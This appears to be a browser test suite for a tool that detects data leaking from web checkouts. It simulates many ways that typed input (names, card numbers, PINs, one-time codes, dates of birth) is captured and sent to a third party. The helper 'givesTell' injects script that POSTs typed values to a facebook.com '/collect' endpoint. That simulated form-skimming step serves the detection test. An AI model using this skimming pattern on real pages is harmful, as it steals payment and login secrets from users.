import {afterAll, beforeAll, describe, expect, it} from 'vitest';
import type {BrowserKind} from '../../scripts/browsers/session.d.ts';
import type {Bundle} from '../../src/bundle/export';
import {BLOG} from '../../workshop/shop/lib/hosts.mjs';
import {openWorld, type World} from './world';

const THIRD = 'www.facebook.com';
/** What is typed in a frame that waits for its page. */
const IN_FRAME = 'Ottoline Greywater';
const pause = (ms: number) => new Promise(resolve => setTimeout(resolve, ms));
/** So long (ms) after loading a page that is no shop is known as none. */
const JUDGED = 4_000;

/** What pages do with what somebody types; run in the page. */
declare global {
  interface Window {
    tell(value: string): void;
    taken: string;
  }
}

interface Case {
  name: string;
  only?: BrowserKind;
  /** Markup that is put into a checkout. */
  html: string;
  /** Runs in the page: has `window.tell` called with what somebody types. */
  script(): void;
  act(world: World): Promise<void>;
  /** What is typed, and as what it is known. */
  typed: string;
  type: string;
}

const type = (text: string, focus?: string) => async (world: World) => {
  if (focus) await world.page.click(focus);
  else await world.page.evaluate(() => (document.activeElement as HTMLElement | null)?.blur());
  await world.page.keyboard.type(text, {delay: 8});
  await pause(60);
  await world.page.evaluate(() => window.tell(window.taken));
};
const keypad = [...'7418520963'].map(sign => `<button type="button" class="key">${sign}</button>`).join('');
const boxes = (count: number, length: number): string =>
  Array.from({length: count}, () => `<input class="box" inputmode="numeric" maxlength="${length}">`).join('');

function takeKeys(): void {
  window.taken = '';
  document.addEventListener('keydown', ({key}) => {
    if (key.length === 1) window.taken += key;
  });
}
function takeBoxes(): void {
  const all = [...document.querySelectorAll<HTMLInputElement>('.box')];
  for (const [at, box] of all.entries()) {
    box.oninput = () => {
      window.taken = all.map(({value}) => value).join('');
      if (box.value.length === box.maxLength) all[at + 1]?.focus();
    };
  }
}

const CASES: Case[] = [
  {
    name: 'text that is edited',
    html: '<p>Name on the gift</p><div id="it" contenteditable role="textbox" aria-label="Name on the gift">.</div>',
    script() {
      const it = document.querySelector('#it') as HTMLElement;
      it.textContent = '';
      it.addEventListener('input', () => {
        window.taken = it.innerText;
      });
    },
    act: type('Quimby Faraday', '#it'),
    typed: 'Quimby Faraday',
    type: 'name',
  },
  {
    name: 'text that is edited in a shadow root',
    html: '<div id="host" style="display:block;height:40px"></div>',
    script() {
      const root = (document.querySelector('#host') as HTMLElement).attachShadow({mode: 'closed'});
      const editor = root.appendChild(document.createElement('div'));
      editor.contentEditable = 'true';
      editor.style.height = '40px';
      editor.append(document.createElement('b'));
      editor.addEventListener('input', () => {
        window.taken = editor.innerText;
      });
    },
    act: type('Rosalind Okonjo-Weir', '#host'),
    typed: 'Rosalind Okonjo-Weir',
    type: 'free-text',
  },
  {
    name: 'a frame that is edited as a whole',
    html: '<iframe id="frame" width="400" height="100"></iframe>',
    script() {
      const inner = (document.querySelector('#frame') as HTMLIFrameElement).contentDocument as Document;
      inner.designMode = 'on';
      inner.addEventListener('input', () => {
        window.taken = inner.body.innerText;
      });
    },
    async act({page}) {
      await page.click('#frame');
      await page.keyboard.type('For Ignatius Pemberley', {delay: 8});
      await pause(60);
      await page.evaluate(() => window.tell(window.taken));
    },
    typed: 'For Ignatius Pemberley',
    type: 'free-text',
  },
  {
    name: 'keys that the page takes',
    html: '',
    script: takeKeys,
    act: type('Barnaby Thistlewood'),
    typed: 'Barnaby Thistlewood',
    type: 'free-text',
  },
  {
    name: 'a canvas with a text of its own',
    only: 'chromium',
    html: '<canvas id="it" width="200" height="40" tabindex="0"></canvas>',
    script() {
      const Context = (window as unknown as {EditContext: new () => EventTarget & {text: string}})
        .EditContext;
      const context = new Context();
      Object.assign(document.querySelector('#it') as object, {editContext: context});
      context.addEventListener('textupdate', () => {
        window.taken = context.text;
      });
    },
    act: type('Philippa Marchbanks', '#it'),
    typed: 'Philippa Marchbanks',
    type: 'free-text',
  },
  {
    name: 'an answer to a prompt',
    html: '',
    script() {
      setTimeout(() => window.tell(prompt('Text for the engraving?') ?? ''), 600);
    },
    async act({page}) {
      await new Promise<void>(resolve => {
        page.once('dialog', dialog => void dialog.accept('For Theodora Lindqvist').then(() => resolve()));
      });
    },
    typed: 'For Theodora Lindqvist',
    type: 'free-text',
  },
  {
    name: 'a keypad of the page',
    html: `<section><p>Payment password</p><div>${keypad}</div></section>`,
    script() {
      window.taken = '';
      for (const key of document.querySelectorAll<HTMLElement>('.key')) {
        key.onclick = () => {
          window.taken += key.innerText;
        };
      }
    },
    async act({page}) {
      for (const sign of '938271') {
        const keys = await page.$$('.key');
        await keys['7418520963'.indexOf(sign)]?.click();
      }
      await page.evaluate(() => window.tell(window.taken));
    },
    typed: '938271',
    type: 'payment-password',
  },
  {
    name: 'a keypad in a closed shadow root',
    html: '<div id="host"></div>',
    script() {
      const root = (document.querySelector('#host') as HTMLElement).attachShadow({mode: 'closed'});
      window.taken = '';
      for (const sign of '1234567890') {
        const key = root.appendChild(document.createElement('div'));
        key.textContent = sign;
        key.style.cssText = 'display:inline-block;width:30px;height:30px';
        key.onclick = () => {
          window.taken += sign;
        };
      }
    },
    async act({page}) {
      const box = await (await page.$('#host'))?.boundingBox();
      const first = await page.evaluate(
        () => document.querySelector('#host')?.getBoundingClientRect().x ?? 0,
      );
      for (const sign of '205816')
        await page.mouse.click(first + '1234567890'.indexOf(sign) * 30 + 12, (box?.y ?? 0) + 12);
      await page.evaluate(() => window.tell(window.taken));
    },
    typed: '205816',
    type: 'one-time-code',
  },
  {
    name: 'a code in boxes of which each is an element of its own',
    html: '<div id="row"></div>',
    script() {
      const all = Array.from({length: 6}, () => {
        const host = document
          .querySelector('#row')
          ?.appendChild(document.createElement('code-box')) as HTMLElement;
        return host.attachShadow({mode: 'open'}).appendChild(document.createElement('input'));
      });
      for (const [at, box] of all.entries()) {
        box.oninput = () => {
          window.taken = all.map(({value}) => value).join('');
          all[at + 1]?.focus();
        };
      }
      all[0]?.focus();
    },
    async act({page}) {
      await page.keyboard.type('731940', {delay: 8});
      await pause(60);
      await page.evaluate(() => window.tell(window.taken));
    },
    typed: '731940',
    type: 'one-time-code',
  },
  {
    name: 'a field that the page empties with each sign',
    html: '<label>Full name <input id="it" autocomplete="off" name="full-name"></label>',
    script() {
      const it = document.querySelector('#it') as HTMLInputElement;
      it.onpaste = () => undefined;
      it.addEventListener('input', () => {
        if (it.value.length < 16) return;
        window.taken = it.value;
        it.value = '';
      });
    },
    act: type('Euphemia Larkins', '#it'),
    typed: 'Euphemia Larkins',
    type: 'name',
  },
  {
    name: 'a field that shows dots',
    html: '<label>Full name <input id="it" autocomplete="name"></label>',
    script() {
      const it = document.querySelector('#it') as HTMLInputElement;
      window.taken = '';
      it.onkeydown = event => {
        event.preventDefault();
        window.taken += event.key;
        it.value = '•'.repeat(window.taken.length);
      };
    },
    act: type('Hyacinth Bellweather', '#it'),
    typed: 'Hyacinth Bellweather',
    type: 'name',
  },
  {
    name: 'what is chosen from suggestions',
    html: '<label>Street and number <input id="it" autocomplete="street-address"></label><p id="hint"></p>',
    script() {
      const it = document.querySelector('#it') as HTMLInputElement;
      const hint = document.querySelector('#hint') as HTMLElement;
      it.oninput = () => {
        hint.textContent = 'Lampwick Crescent 418';
      };
      hint.onclick = () => {
        it.value = hint.textContent ?? '';
        window.tell(it.value);
      };
    },
    async act({page}) {
      await page.type('#it', 'Lam');
      await pause(300);
      await page.click('#hint');
    },
    typed: 'Lampwick Crescent 418',
    type: 'street-address',
  },
  {
    name: 'a code in boxes',
    html: `<fieldset><legend>Code from your text message</legend>${boxes(6, 1)}</fieldset>`,
    script: takeBoxes,
    act: type('604913', '.box'),
    typed: '604913',
    type: 'one-time-code',
  },
  {
    name: 'a card number in boxes',
    html: `<fieldset><legend>Card number</legend>${boxes(4, 4)}</fieldset>`,
    script: takeBoxes,
    act: type('4929777100003335', '.box'),
    typed: '4929777100003335',
    type: 'cc-number',
  },
  {
    name: 'a date of birth in lists',
    html: `<fieldset><legend>Date of birth</legend>
      <select id="d" aria-label="Day"><option>Day${[...Array(31).keys()].map(at => `<option>${at + 1}`).join('')}</select>
      <select id="m" aria-label="Month"><option>Month${[...Array(12).keys()].map(at => `<option>${at + 1}`).join('')}</select>
      <select id="y" aria-label="Year"><option>Year${[...Array(90).keys()].map(at => `<option>${2005 - at}`).join('')}</select></fieldset>`,
    script() {
      document.addEventListener('change', () => {
        const [d, m, y] = ['d', 'm', 'y'].map(id => (document.getElementById(id) as HTMLSelectElement).value);
        window.taken = `${y}-${m?.padStart(2, '0')}-${d?.padStart(2, '0')}`;
      });
    },
    async act({page}) {
      await page.select('#d', '28');
      await page.select('#m', '11');
      await page.select('#y', '1957');
      await page.evaluate(() => window.tell(window.taken));
    },
    typed: '1957-11-28',
    type: 'bday',
  },
  {
    name: 'a document that was written anew',
    html: '',
    script() {
      const {tell} = window;
      document.open();
      document.write(
        '<!doctype html><title>Checkout</title><h1>Checkout</h1><label>Full name <input id="it" autocomplete="name"></label>',
      );
      document.close();
      window.tell = tell;
      (document.querySelector('#it') as HTMLInputElement).oninput = ({target}) => {
        window.taken = (target as HTMLInputElement).value;
      };
    },
    act: type('Cornelius Ashgrove', '#it'),
    typed: 'Cornelius Ashgrove',
    type: 'name',
  },
  {
    name: 'a frame that was written by its page',
    html: '<iframe id="frame" width="400" height="100"></iframe>',
    script() {
      const inner = (document.querySelector('#frame') as HTMLIFrameElement).contentDocument as Document;
      inner.open();
      inner.write('<!doctype html><label>Full name <input id="it" autocomplete="name"></label>');
      inner.close();
      (inner.querySelector('#it') as HTMLInputElement).oninput = ({target}) => {
        window.taken = (target as HTMLInputElement).value;
      };
    },
    async act({page}) {
      const field = await (await (await page.$('#frame'))?.contentFrame())?.$('#it');
      await field?.click();
      await page.keyboard.type('Wilhelmina Sorrel', {delay: 8});
      await pause(60);
      await page.evaluate(() => window.tell(window.taken));
    },
    typed: 'Wilhelmina Sorrel',
    type: 'name',
  },
];

const FORM = `<h1>Checkout</h1><form><label>Full name <input id="it" autocomplete="name"></label>
  <label>E-mail <input autocomplete="email"></label><label>Card number <input autocomplete="cc-number"></label>
  <label>Postcode <input autocomplete="postal-code"></label><button>Place order</button></form>`;

/** A page that is no shop becomes a checkout on the same address. */
const LATE: {name: string; show(html: string): void; act(world: World): Promise<void>; typed: string}[] = [
  {
    name: 'with a click',
    show(html) {
      const button = document.body.insertAdjacentElement(
        'afterbegin',
        document.createElement('button'),
      ) as HTMLElement;
      button.id = 'go';
      button.textContent = 'Book';
      button.onclick = () => document.body.insertAdjacentHTML('afterbegin', html);
    },
    act: ({page}) => page.click('#go'),
    typed: 'Leopold Harrowgate',
  },
  {
    name: 'with a click that shows what was hidden',
    show(html) {
      document.body.insertAdjacentHTML(
        'afterbegin',
        `<button id=go>Book</button><div hidden id=box>${html}</div>`,
      );
      (document.querySelector('#go') as HTMLElement).onclick = () => {
        (document.querySelector('#box') as HTMLElement).hidden = false;
      };
    },
    act: ({page}) => page.click('#go'),
    typed: 'Seraphina Plunkett',
  },
  {
    name: 'with a click, in a shadow root',
    show(html) {
      document.body.insertAdjacentHTML('afterbegin', '<button id=go>Book</button>');
      (document.querySelector('#go') as HTMLElement).onclick = () => {
        document.title = 'Checkout';
        const host = document.createElement('book-form');
        document.body.prepend(host);
        const root = host.attachShadow({mode: 'open'});
        root.append(document.createRange().createContextualFragment(html));
        root.querySelector<HTMLElement>('#it')?.focus();
        Object.assign(window, {box: root.querySelector('#it')});
      };
    },
    act: ({page}) => page.click('#go'),
    typed: 'Evangeline Marlowe',
  },
  {
    name: 'by itself',
    show(html) {
      setTimeout(() => {
        document.title = 'Checkout';
        document.body.insertAdjacentHTML('afterbegin', html);
      }, 5_000);
    },
    act: async () => void (await pause(6_500 - JUDGED)),
    typed: 'Montgomery Fairfax',
  },
];

/** Runs in the page: puts a frame with a field into it, and sends what is typed there. */
function addFrame(): void {
  const frame = document.createElement('iframe');
  frame.id = 'frame';
  frame.srcdoc = '<label>Full name <input id="it" autocomplete="name"></label>';
  document.body.prepend(frame);
}

describe.each<BrowserKind>(['chromium', 'firefox'])('what is typed in %s', kind => {
  let world: World;
  let bundle: Bundle;
  /** When each case took place, and what went wrong in it. */
  const walked = new Map<string, {from: number; to: number; error?: unknown}>();
  const own = CASES.filter(({only = kind}) => only === kind);

  const givesTell = () =>
    world.page.evaluate(host => {
      window.tell = value => {
        void fetch(`https://${host}/collect`, {
          method: 'POST',
          mode: 'no-cors',
          body: JSON.stringify({code: value, pin: value}),
        });
      };
    }, THIRD);

  /** Goes through a case; what came of it is looked at when all are through, since to settle takes longer than to act. */
  async function walk(name: string, act: () => Promise<void>): Promise<void> {
    const from = Date.now();
    try {
      await act();
      await pause(250);
      walked.set(name, {from, to: Date.now()});
    } catch (error) {
      walked.set(name, {from, to: Date.now(), error});
    }
  }

  async function walkCase(one: Case): Promise<void> {
    await world.page.goto(`${world.shop.shopUrl}checkout`, {waitUntil: 'load'});
    await pause(400);
    await givesTell();
    await world.page.evaluate(html => document.body.insertAdjacentHTML('afterbegin', html), one.html);
    await world.page.evaluate(one.script);
    await pause(200);
    await one.act(world);
  }

  async function walkLate({show, act, typed}: (typeof LATE)[number]): Promise<void> {
    await world.page.goto(world.shop.url(BLOG), {waitUntil: 'load'});
    await givesTell();
    await world.page.evaluate(show, FORM);
    await pause(JUDGED);
    await act(world);
    await world.page.evaluate(() => document.querySelector<HTMLElement>('#it')?.focus());
    await world.page.keyboard.type(typed, {delay: 8});
    await pause(400);
    await world.page.evaluate(() =>
      window.tell(
        (
          document.querySelector<HTMLInputElement>('#it') ??
          (window as unknown as {box: HTMLInputElement}).box
        ).value,
      ),
    );
  }

  async function walkFrame(): Promise<void> {
    await world.page.goto(world.shop.url(BLOG), {waitUntil: 'load'});
    await givesTell();
    await world.page.evaluate(addFrame);
    await pause(JUDGED);
    await world.page.evaluate(
      html => document.body.insertAdjacentHTML('beforeend', html.replace('id="it"', '')),
      FORM,
    );
    await pause(3_500);
    const field = await (await (await world.page.$('#frame'))?.contentFrame())?.$('#it');
    await field?.click();
    await world.page.keyboard.type(IN_FRAME, {delay: 8});
    await pause(400);
    await world.page.evaluate(value => window.tell(value), IN_FRAME);
  }

  beforeAll(async () => {
    world = await openWorld(kind);
    for (const one of own) await walk(one.name, () => walkCase(one));
    for (const one of LATE) await walk(one.name, () => walkLate(one));
    await walk('frame', walkFrame);
    await world.page.goto('about:blank');
    await world.settle();
    bundle = await world.bundle();
  }, 300_000);
  afterAll(() => world?.close());

  /** Types of what the third party was told in a case. */
  function toldIn(name: string, typed: string): string[] {
    const {from = 0, to = 0, error} = walked.get(name) ?? {error: new Error(`${name} did not take place`)};
    if (error) throw error;
    expect(JSON.stringify(bundle.observations)).not.toContain(typed);
    return bundle.observations.flatMap(one =>
      one.kind === 'request' && one.path === '/collect' && one.at >= from && one.at <= to
        ? (one.leaks ?? []).map(leak => leak.type)
        : [],
    );
  }

  it.each(own)('$name', ({name, typed, type: expected}) => {
    expect(toldIn(name, typed)).toContain(expected);
  });
  it.each(LATE)('in a checkout that comes late: $name', ({name, typed}) => {
    expect(toldIn(name, typed)).toContain('name');
  });
  it('in a frame that was there before its page became a checkout', () => {
    expect(toldIn('frame', IN_FRAME)).toContain('name');
  });
});
